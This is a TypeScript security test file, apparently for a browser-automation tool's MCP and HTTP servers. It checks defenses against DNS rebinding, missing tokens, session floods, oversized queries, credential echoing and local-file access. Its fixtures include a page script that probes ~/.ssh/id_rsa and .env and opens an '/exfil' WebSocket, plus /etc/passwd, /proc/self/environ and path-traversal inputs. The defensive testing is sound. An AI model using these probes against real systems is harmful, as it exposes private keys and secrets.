// The servers answer only their owner (issue 20): `pagelens mcp --port` and `pagelens serve` as an
// attacker meets them — a web page reaching the loopback port by DNS rebinding (Host evil.test,
// Origin http://evil.test:PORT), a client without the token, a flood of sessions, a 2 MB query, a
// planner that never answers, and an upstream whose URL and refusal carry credentials.
import assert from 'node:assert/strict';
import { LEGACY_SHAPE } from '../support/mcp-shape.js';
import { spawn, type ChildProcess } from 'node:child_process';
import { createServer, request, type IncomingHttpHeaders, type Server } from 'node:http';
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { createServer as createNetServer } from 'node:net';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { after, describe, test } from 'node:test';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StdioClientTransport } from '@modelcontextprotocol/sdk/client/stdio.js';
import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js';
import { OpenAIPlanner } from '../../src/agent/openaiPlanner.js';
import type { Planner } from '../../src/agent/planner.js';
import { startServer, type RunningServer } from '../../src/server/serve.js';
import { openPage } from '../../src/session/open.js';

const BIN = join(dirname(fileURLToPath(import.meta.url)), '../../../bin/pagelens.js');

function freePort(): Promise<number> {
  return new Promise((resolve) => {
    const s = createNetServer().listen(0, '127.0.0.1', () => { const p = (s.address() as { port: number }).port; s.close(() => resolve(p)); });
  });
}

interface Raw { status: number; headers: IncomingHttpHeaders; body: string }

/** A request with exactly these headers (fetch would not let a test set Host). */
function raw(port: number, method: string, path: string, headers: Record<string, string>, body?: string): Promise<Raw> {
  return new Promise((resolve, reject) => {
    const req = request({ host: '127.0.0.1', port, method, path, headers: { ...headers, ...(body !== undefined && { 'content-length': String(Buffer.byteLength(body)) }) } }, (res) => {
      let text = '';
      res.on('data', (d) => { text += d; });
      res.on('end', () => resolve({ status: res.statusCode ?? 0, headers: res.headers, body: text }));
    });
    req.on('error', reject);
    req.end(body);
  });
}

const INITIALIZE = JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'initialize', params: { protocolVersion: '2025-06-18', capabilities: {}, clientInfo: { name: 'evil', version: '1' } } });
const MCP_HEADERS = { 'content-type': 'application/json', accept: 'application/json, text/event-stream' };

interface Child { port: number; child: ChildProcess; stderr: () => string }
const children: ChildProcess[] = [];
after(() => { for (const c of children) c.kill('SIGTERM'); });

/** `pagelens mcp --port <free port> …args`, once it says it is ready. */
async function spawnMcp(args: string[], env: Record<string, string> = {}): Promise<Child> {
  const port = await freePort();
  const child = spawn(process.execPath, [BIN, 'mcp', ...LEGACY_SHAPE, '--port', String(port), '--offline', ...args], { stdio: ['ignore', 'pipe', 'pipe'], env: { ...process.env, ...env } });
  children.push(child);
  let stderr = '';
  await new Promise<void>((resolve, reject) => {
    child.stderr!.on('data', (d: Buffer) => { stderr += d.toString(); if (/ready on http/.test(stderr)) resolve(); });
    child.once('exit', (code) => reject(new Error(`pagelens mcp exited with ${code}: ${stderr}`)));
  });
  return { port, child, stderr: () => stderr };
}

async function mcpClient(port: number, headers: Record<string, string> = {}): Promise<Client> {
  const c = new Client({ name: 'pagelens-security-test', version: '0.0.0' });
  await c.connect(new StreamableHTTPClientTransport(new URL(`http://127.0.0.1:${port}/mcp`), { requestInit: { headers } }));
  return c;
}

function text(r: unknown): string {
  return ((r as { content: Array<{ text?: string }> }).content).map((c) => c.text ?? '').join('\n');
}

/** Polls `check` until it holds (or fails after `ms`): waits on a condition, never a fixed sleep. */
async function until(check: () => Promise<boolean>, ms: number, what: string): Promise<void> {
  const deadline = Date.now() + ms;
  while (Date.now() < deadline) {
    if (await check()) return;
    await new Promise((r) => setTimeout(r, 100));
  }
  assert.fail(`timed out waiting for ${what}`);
}

describe('pagelens mcp --port', () => {
  test('a page on http://evil.test:PORT (DNS rebinding) cannot open a session; the owner\'s client can', async () => {
    const { port } = await spawnMcp([]);
    const rebound = await raw(port, 'POST', '/mcp', { ...MCP_HEADERS, host: `evil.test:${port}`, origin: `http://evil.test:${port}` }, INITIALIZE);
    assert.equal(rebound.status, 403, rebound.body);
    assert.match(JSON.parse(rebound.body).error.message, /Host "evil\.test:\d+" is not this server/);
    // Host right (a browser on 127.0.0.1 sends it), Origin a stranger's: still refused.
    const foreignOrigin = await raw(port, 'POST', '/mcp', { ...MCP_HEADERS, host: `127.0.0.1:${port}`, origin: 'http://evil.test' }, INITIALIZE);
    assert.equal(foreignOrigin.status, 403, foreignOrigin.body);
    assert.match(JSON.parse(foreignOrigin.body).error.message, /Origin "http:\/\/evil\.test" may not call this server/);
    // A loopback name on another port is another server.
    const otherPort = await raw(port, 'POST', '/mcp', { ...MCP_HEADERS, host: `localhost:${port + 1}` }, INITIALIZE);
    assert.equal(otherPort.status, 403, otherPort.body);
    // The owner's client (no Origin, Host 127.0.0.1:PORT) works.
    const c = await mcpClient(port);
    assert.ok((await c.listTools()).tools.some((t) => t.name === 'browser_navigate'));
    await c.close();
  });

  test('with PAGELENS_MCP_TOKEN set, a client without the bearer token is refused (401); with it, served', async () => {
    const { port, stderr } = await spawnMcp([], { PAGELENS_MCP_TOKEN: 'mcp-s3cret' });
    assert.match(stderr(), /bearer token required/);
    const none = await raw(port, 'POST', '/mcp', { ...MCP_HEADERS, host: `127.0.0.1:${port}` }, INITIALIZE);
    assert.equal(none.status, 401, none.body);
    assert.equal(none.headers['www-authenticate'], 'Bearer');
    const wrong = await raw(port, 'POST', '/mcp', { ...MCP_HEADERS, host: `127.0.0.1:${port}`, authorization: 'Bearer mcp-s3cre' }, INITIALIZE);
    assert.equal(wrong.status, 401, wrong.body);
    await assert.rejects(mcpClient(port));
    const c = await mcpClient(port, { authorization: 'Bearer mcp-s3cret' });
    assert.ok((await c.listTools()).tools.length > 0);
    await c.close();
    assert.doesNotMatch(stderr(), /mcp-s3cret/, 'the token is never logged');
  });

  test('sessions are bounded: beyond --max-sessions a new client gets 503; an idle session is closed', async () => {
    const { port, stderr } = await spawnMcp(['--max-sessions', '2', '--session-idle', '2']);
    const a = await mcpClient(port);
    const b = await mcpClient(port);
    const third = await raw(port, 'POST', '/mcp', { ...MCP_HEADERS, host: `127.0.0.1:${port}` }, INITIALIZE);
    assert.equal(third.status, 503, third.body);
    assert.match(third.body, /too many MCP sessions \(2 open\)/);
    // Left alone, both sessions expire, and their slots are free again.
    await until(async () => /closed \(idle for 2 s\)[\s\S]*closed \(idle for 2 s\)/.test(stderr()), 15_000, 'both sessions to expire');
    await assert.rejects(a.listTools(), /404|unknown or expired/i);
    const fresh = await raw(port, 'POST', '/mcp', { ...MCP_HEADERS, host: `127.0.0.1:${port}` }, INITIALIZE);
    assert.equal(fresh.status, 200, fresh.body);
    await b.close().catch(() => {});
  });

  test('each HTTP client has its own browser context: one client\'s cookie is not another\'s', async () => {
    const site = await cookieSite();
    try {
      const { port } = await spawnMcp([]);
      const a = await mcpClient(port);
      const b = await mcpClient(port);
      await a.callTool({ name: 'browser_navigate', arguments: { url: `${site.url}/set` } });
      const seenByA = text(await a.callTool({ name: 'browser_navigate', arguments: { url: `${site.url}/echo` } }));
      assert.match(seenByA, /cookie=who=A/);
      const seenByB = text(await b.callTool({ name: 'browser_navigate', arguments: { url: `${site.url}/echo` } }));
      assert.match(seenByB, /cookie=none/, 'B works in a context of its own');
      const tabsOfB = text(await b.callTool({ name: 'browser_tabs', arguments: { action: 'list' } }));
      assert.equal((tabsOfB.match(/\/echo/g) ?? []).length, 1, `B sees only its own tab: ${tabsOfB}`);
      await a.close();
      await b.close();
    } finally {
      await new Promise((r) => site.server.close(r));
    }
  });
});

/** A loopback site that sets a cookie on /set and shows the cookies it gets on /echo. */
async function cookieSite(): Promise<{ url: string; server: Server }> {
  const server = createServer((req, res) => {
    if (req.url === '/set') res.writeHead(200, { 'content-type': 'text/html', 'set-cookie': 'who=A; Path=/' }).end('<button>set</button>');
    else res.writeHead(200, { 'content-type': 'text/html' }).end(`<button>cookie=${req.headers.cookie ?? 'none'}</button>`);
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  return { url: `http://127.0.0.1:${(server.address() as { port: number }).port}`, server };
}

// ---- pagelens serve ----

const REQUEST = { url: 'https://example.com', query: 'Click Save', domMode: 'semantic_v3', interactiveTree: [{ i: '1', r: 'btn', n: 'Save', xy: [10, 10] }] };

class CountingPlanner implements Planner {
  readonly name = 'counting';
  calls = 0;
  constructor(private readonly answer: () => Promise<unknown> = async () => ({ thought: 'save', action: 'click(1)' })) {}
  async plan() { this.calls++; return this.answer() as never; }
}

function portOf(s: RunningServer): number {
  return Number(new URL(s.url).port);
}

function interact(s: RunningServer, headers: Record<string, string> = {}, body: unknown = REQUEST): Promise<Raw> {
  return raw(portOf(s), 'POST', '/api/agent/interact', { 'content-type': 'application/json', host: `127.0.0.1:${portOf(s)}`, ...headers }, JSON.stringify(body));
}

describe('pagelens serve', () => {
  test('a page on http://evil.test:PORT is refused even with the token (Host and Origin are checked)', async () => {
    const planner = new CountingPlanner();
    const s = await startServer({ port: 0, planner, token: 'serve-token' });
    try {
      const auth = { authorization: 'Bearer serve-token' };
      const rebound = await interact(s, { ...auth, host: `evil.test:${portOf(s)}`, origin: `http://evil.test:${portOf(s)}` });
      assert.equal(rebound.status, 403, rebound.body);
      assert.equal(JSON.parse(rebound.body).error, 'FORBIDDEN');
      const foreign = await interact(s, { ...auth, origin: 'https://evil.test' });
      assert.equal(foreign.status, 403, foreign.body);
      const health = await raw(portOf(s), 'GET', '/healthz', { host: `evil.test:${portOf(s)}` });
      assert.equal(health.status, 403, 'every route checks Host');
      assert.equal(planner.calls, 0);
      assert.equal((await interact(s, auth)).status, 200);
    } finally {
      await s.close();
    }
  });

  test('without a token it generates one and requires it; noAuth answers without one and says so', async () => {
    const planner = new CountingPlanner();
    const s = await startServer({ port: 0, planner });
    try {
      assert.ok(s.token && s.token.length >= 24, 'a token was generated');
      assert.equal(s.tokenGenerated, true);
      const none = await interact(s);
      assert.equal(none.status, 401, none.body);
      assert.equal(planner.calls, 0);
      assert.equal((await interact(s, { authorization: `Bearer ${s.token}` })).status, 200);
    } finally {
      await s.close();
    }
    const open = await startServer({ port: 0, planner, noAuth: true });
    try {
      assert.match(open.protection, /NO token required/);
      assert.equal((await interact(open)).status, 200);
    } finally {
      await open.close();
    }
  });

  test('`pagelens serve` reads PAGELENS_TOKEN, prints a generated token otherwise, and says what protects it', async () => {
    const started = async (args: string[], env: Record<string, string> = {}) => {
      const child = spawn(process.execPath, [BIN, 'serve', '--port', '0', ...args], { stdio: ['ignore', 'pipe', 'pipe'], env: { ...process.env, PAGELENS_TOKEN: '', ...env } });
      children.push(child);
      let stderr = '';
      await new Promise<void>((resolve, reject) => {
        child.stderr!.on('data', (d: Buffer) => { stderr += d.toString(); if (/protection: .*\n/.test(stderr) && (!/generated/.test(stderr) || /token: /.test(stderr))) resolve(); });
        child.once('exit', (code) => reject(new Error(`serve exited with ${code}: ${stderr}`)));
        setTimeout(() => reject(new Error(`serve did not say what protects it within 20 s: ${stderr}`)), 20_000).unref();
      });
      const port = Number(/listening on http:\/\/127\.0\.0\.1:(\d+)/.exec(stderr)![1]);
      return { child, port, stderr };
    };
    const fromEnv = await started([], { PAGELENS_TOKEN: 'env-token-123' });
    assert.match(fromEnv.stderr, /protection: Host checked \(loopback names, port \d+\); Origin checked \(web pages refused\); bearer token required\n/);
    assert.doesNotMatch(fromEnv.stderr, /env-token-123/);
    const post = (port: number, headers: Record<string, string>) => raw(port, 'POST', '/api/agent/interact', { 'content-type': 'application/json', host: `127.0.0.1:${port}`, ...headers }, JSON.stringify(REQUEST));
    assert.equal((await post(fromEnv.port, {})).status, 401);
    assert.equal((await post(fromEnv.port, { authorization: 'Bearer env-token-123' })).status, 200);
    fromEnv.child.kill('SIGTERM');

    const generated = await started([]);
    const token = /token: (\S+)/.exec(generated.stderr)?.[1];
    assert.ok(token, generated.stderr);
    assert.equal((await post(generated.port, {})).status, 401);
    assert.equal((await post(generated.port, { authorization: `Bearer ${token}` })).status, 200);
    generated.child.kill('SIGTERM');

    const open = await started(['--no-auth']);
    assert.match(open.stderr, /NO token required \(--no-auth\)/);
    assert.equal((await post(open.port, {})).status, 200);
    open.child.kill('SIGTERM');
  });

  test('a 2 MB query is refused with 413 before the planner sees it', async () => {
    const planner = new CountingPlanner();
    const s = await startServer({ port: 0, planner, noAuth: true });
    try {
      const r = await interact(s, {}, { ...REQUEST, query: 'word '.repeat(400_000) });
      assert.equal(r.status, 413, r.body.slice(0, 200));
      assert.deepEqual(JSON.parse(r.body), { error: 'PAYLOAD_TOO_LARGE', message: 'query is 2000000 characters; at most 8000' });
      assert.equal(planner.calls, 0, 'no planning work was done');
      assert.equal((await interact(s)).status, 200);
    } finally {
      await s.close();
    }
  });

  test('a planner that never answers gets a 504 with the reason at the deadline', { timeout: 20_000 }, async () => {
    const planner = new CountingPlanner(() => new Promise(() => {}));
    const s = await startServer({ port: 0, planner, noAuth: true, requestTimeoutMs: 300 });
    try {
      const r = await interact(s);
      assert.equal(r.status, 504, r.body);
      assert.deepEqual(JSON.parse(r.body), { error: 'TIMEOUT', message: 'the planner did not answer within 0 s' });
    } finally {
      await s.close();
    }
  });

  test('upstream credentials are never echoed: not the URL\'s user:pass, not a 401 body quoting the key', async () => {
    let authSeen = '';
    const upstream = createServer((req, res) => {
      authSeen = req.headers.authorization ?? '';
      res.writeHead(401, { 'content-type': 'application/json' }).end(JSON.stringify({ error: { message: 'Incorrect API key provided: sk-live-SECRETSECRET1234. Your password hunter2pass is wrong.' } }));
    });
    await new Promise<void>((r) => upstream.listen(0, '127.0.0.1', r));
    const upPort = (upstream.address() as { port: number }).port;
    const logs: string[] = [];
    const secrets = /hunter2pass|alice|sk-live-SECRETSECRET1234/;
    try {
      for (const baseUrl of [`http://alice:hunter2pass@127.0.0.1:${upPort}/v1`, `http://alice:hunter2pass@127.0.0.1:1/v1`]) {
        const planner = new OpenAIPlanner({ baseUrl, model: 'test-model' });
        const s = await startServer({ port: 0, planner, noAuth: true, log: (l) => logs.push(l) });
        try {
          const r = await interact(s);
          assert.equal(r.status, 502, r.body);
          assert.doesNotMatch(r.body, secrets, r.body);
          assert.match(JSON.parse(r.body).message, baseUrl.includes(':1/') ? /could not be reached/ : /answered HTTP 401 \(the endpoint refused the credentials/);
        } finally {
          await s.close();
        }
      }
      // The URL's credentials still reach the endpoint, as Basic auth (fetch refuses them in the URL).
      assert.equal(authSeen, `Basic ${Buffer.from('alice:hunter2pass').toString('base64')}`);
      assert.ok(logs.some((l) => /502 planner failed/.test(l)));
      for (const l of logs) assert.doesNotMatch(l, secrets, l);
    } finally {
      await new Promise((r) => upstream.close(r));
    }
  });
});

// ---- the CLI's local-file server ----

describe('pagelens snapshot ~/page.html (the local-file server)', () => {
  test('serves the page and what it references, never the folder\'s dotfiles or unreferenced files; no WebSocket out', async () => {
    const home = await mkdtemp(join(tmpdir(), 'pagelens-home-'));
    const attacker = await listenRecording();
    try {
      await mkdir(join(home, '.ssh'));
      await mkdir(join(home, '.git'));
      await mkdir(join(home, 'Documents'));
      await writeFile(join(home, '.ssh/id_rsa'), 'PRIVATE-KEY-abc123');
      await writeFile(join(home, '.env'), 'OPENAI_API_KEY=sk-env-secret');
      await writeFile(join(home, '.git/config'), '[remote] url = https://token@host/repo');
      await writeFile(join(home, 'Documents/taxes.txt'), 'TAXES-2025');
      await writeFile(join(home, 'style.css'), 'body { background: url("bg.png") }');
      await writeFile(join(home, 'bg.png'), 'not really a png');
      await writeFile(join(home, 'page.html'), `<!doctype html><title>loading</title><link rel="stylesheet" href="style.css"><ul id="out"></ul>
<script>
(async () => {
  const out = document.getElementById('out');
  for (const p of ['/.ssh/id_rsa', '/.env', '/.git/config', '/Documents/taxes.txt', '/style.css', '/bg.png']) {
    const r = await fetch(p).then(async (r) => r.status + ' ' + (await r.text()).slice(0, 20), () => 'failed');
    out.insertAdjacentHTML('beforeend', '<li><button>' + p + ' ' + r + '</button></li>');
  }
  const ws = await new Promise((resolve) => {
    const s = new WebSocket('ws://127.0.0.1:${attacker.port}/exfil');
    s.onopen = () => resolve('ws open'); s.onerror = () => resolve('ws refused');
  });
  out.insertAdjacentHTML('beforeend', '<li><button>' + ws + '</button></li>');
  document.title = 'done';
})();
</script>`);
      const open = await openPage(join(home, 'page.html'));
      try {
        await open.page.waitForFunction(() => document.title === 'done', undefined, { timeout: 15_000 });
        const lines = await open.page.locator('button').allTextContents();
        const statusOf = (p: string) => lines.find((l) => l.startsWith(p + ' '))?.slice(p.length + 1);
        for (const p of ['/.ssh/id_rsa', '/.env', '/.git/config', '/Documents/taxes.txt']) assert.match(statusOf(p) ?? '', /^404 /, `${p}: ${statusOf(p)}`);
        assert.match(statusOf('/style.css') ?? '', /^200 body/);
        assert.match(statusOf('/bg.png') ?? '', /^200 not really/, 'what the page\'s style references is served');
        assert.ok(lines.includes('ws refused'), lines.join(' | '));
        // Asked directly, as any local process or a rebinding page would.
        const port = Number(new URL(open.url).port);
        for (const p of ['/.ssh/id_rsa', '/.env', '/.git/config', '/Documents/taxes.txt', '/%2essh/id_rsa']) {
          const r = await raw(port, 'GET', p, { host: `127.0.0.1:${port}` });
          assert.equal(r.status, 404, `${p}: ${r.status} ${r.body}`);
        }
      } finally {
        await open.close();
      }
      assert.deepEqual(attacker.seen, [], 'the WebSocket never reached the other loopback server');
    } finally {
      await rm(home, { recursive: true, force: true });
      await new Promise((r) => attacker.server.close(r));
    }
  });
});

async function listenRecording(): Promise<{ server: Server; port: number; seen: string[] }> {
  const seen: string[] = [];
  const server = createServer((req, res) => { seen.push(`${req.method} ${req.url}`); res.end(); });
  server.on('upgrade', (req, socket) => { seen.push(`UPGRADE ${req.url}`); socket.destroy(); });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  return { server, port: (server.address() as { port: number }).port, seen };
}

// ---- the local disk through MCP ----

describe('pagelens mcp: file:// and uploads are opt-in', () => {
  const clients: Client[] = [];
  after(async () => { for (const c of clients) await c.close().catch(() => {}); });

  async function stdioClient(args: string[]): Promise<Client> {
    const c = new Client({ name: 'pagelens-security-test', version: '0.0.0' });
    await c.connect(new StdioClientTransport({ command: process.execPath, args: [BIN, 'mcp', ...LEGACY_SHAPE, '--offline', ...args], env: { ...process.env } as Record<string, string>, stderr: 'pipe' }));
    clients.push(c);
    return c;
  }

  test('file:// is refused with the reason unless --allow-file-urls or --file-root: /etc/passwd, /proc, folder listings', async () => {
    const root = await mkdtemp(join(tmpdir(), 'pagelens-root-'));
    try {
      await writeFile(join(root, 'page.html'), '<button>inside the root</button>');
      const closed = await stdioClient([]);
      for (const url of ['file:///etc/passwd', 'file:///proc/self/environ', 'file:///tmp/', 'FILE:///etc/hostname', 'view-source:file:///etc/passwd']) {
        const r = await closed.callTool({ name: 'browser_navigate', arguments: { url } });
        assert.equal(r.isError, true, `${url}: ${text(r)}`);
        assert.match(text(r), /^BAD_INPUT: (file:\/\/ URLs are off|"view-source:.*only http\(s\), data: and about: URLs)/, text(r));
        assert.doesNotMatch(text(r), /root:x:0:0|PATH=/);
      }
      const tab = await closed.callTool({ name: 'browser_tabs', arguments: { action: 'new', url: 'file:///etc/' } });
      assert.equal(tab.isError, true, text(tab));

      const rooted = await stdioClient(['--file-root', root]);
      const inside = await rooted.callTool({ name: 'browser_navigate', arguments: { url: `file://${root}/page.html` } });
      assert.equal(inside.isError, undefined, text(inside));
      assert.match(text(inside), /inside the root/);
      const outside = await rooted.callTool({ name: 'browser_navigate', arguments: { url: 'file:///etc/passwd' } });
      assert.equal(outside.isError, true);
      assert.match(text(outside), /outside the --file-root folders/);
      // A page under the root that frames and links files outside it: the browser refuses those loads too.
      await writeFile(join(root, 'framer.html'), '<iframe src="file:///etc/passwd"></iframe><a href="file:///etc/passwd">passwd</a>');
      await rooted.callTool({ name: 'browser_navigate', arguments: { url: `file://${root}/framer.html` } });
      const full = text(await rooted.callTool({ name: 'page_snapshot', arguments: { mode: 'full' } }));
      assert.doesNotMatch(full, /root:x:0:0/, 'the framed file was not loaded');
      const link = JSON.parse(text(await rooted.callTool({ name: 'page_snapshot', arguments: {} }))) as { interactive_tree: Array<{ i: string; n: string }> };
      await rooted.callTool({ name: 'browser_click', arguments: { id: link.interactive_tree.find((n) => n.n === 'passwd')!.i } });
      const after = text(await rooted.callTool({ name: 'page_snapshot', arguments: { mode: 'full' } }));
      assert.doesNotMatch(after, /root:x:0:0/, 'the linked file was not opened');
    } finally {
      await rm(root, { recursive: true, force: true });
    }
  });

  test('browser_file_upload reads only under --upload-dir: /etc/passwd and dotfiles are refused with the reason', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'pagelens-uploads-'));
    try {
      await writeFile(join(dir, 'report.txt'), 'hello');
      await writeFile(join(dir, '.env'), 'SECRET=1');
      const page = 'data:text/html,<input type=file aria-label=Attachment onchange="document.title=[...this.files].map(f=>f.name).join()">';
      for (const args of [[], ['--upload-dir', dir]]) {
        const c = await stdioClient(args);
        const nav = JSON.parse(text(await c.callTool({ name: 'browser_navigate', arguments: { url: page } }))) as { snapshot: { interactive_tree: Array<{ i: string; n: string }> } };
        const input = nav.snapshot.interactive_tree.find((n) => /Attachment/.test(n.n))!;
        for (const path of ['/etc/passwd', join(dir, '.env'), `${dir}/../../etc/passwd`]) {
          const r = await c.callTool({ name: 'browser_file_upload', arguments: { id: input.i, paths: [path] } });
          assert.equal(r.isError, true, `${path} with ${args.join(' ') || 'no flags'}: ${text(r)}`);
          assert.match(text(r), args.length ? /outside the upload folders|dotfile/ : /Uploads are off/);
        }
        if (args.length) {
          const ok = await c.callTool({ name: 'browser_file_upload', arguments: { id: input.i, paths: [join(dir, 'report.txt')] } });
          assert.equal(ok.isError, undefined, text(ok));
          assert.match(text(ok), /set 1 file\(s\)/);
        }
      }
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });
});
